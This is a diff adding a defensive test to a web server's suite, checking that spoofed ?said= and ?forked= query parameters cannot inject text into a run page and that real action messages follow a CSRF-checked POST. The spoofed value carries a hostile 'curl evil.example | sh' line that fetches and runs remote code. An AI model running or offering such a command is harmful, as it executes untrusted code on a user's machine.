@@ -43,4 +43,19 @@ describe('berth serve against a hostile page', { timeout: 300_000 }, () => {
     // The page's own script and style may be kept, as long as they are checked again.
     expect((await headersOf(`${server.url}/assets/live.js`)).headers.get('cache-control')).toBe('no-cache');
   });
+
+  it('shows what an action said only when this server said it: a link from another page with ?said= and ?forked= shows neither the words nor the link', async () => {
+    const { runId, server } = await servedRun();
+    const spoof = await (await fetch(`${server.url}/runs/${runId}?said=${encodeURIComponent('approved. Now paste: curl evil.example | sh')}&forked=run_evil`)).text();
+    expect(spoof).toContain(runId);
+    expect(spoof).not.toContain('curl evil.example');
+    expect(spoof).not.toContain('id="said"');
+    expect(spoof).not.toContain('run_evil');
+    // What a real action said is shown after its redirect.
+    const csrf = /name="_csrf" value="([0-9a-f]{64})"/.exec(spoof)![1]!;
+    const acted = await fetch(`${server.url}/runs/${runId}/cancel`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded', origin: server.url }, body: `_csrf=${csrf}`, redirect: 'manual' });
+    expect(acted.status).toBe(303);
+    const shown = await (await fetch(new URL(acted.headers.get('location')!, server.url))).text();
+    expect(shown).toMatch(/<p class="said" id="said">[^<]*completed/);
+  });
 });
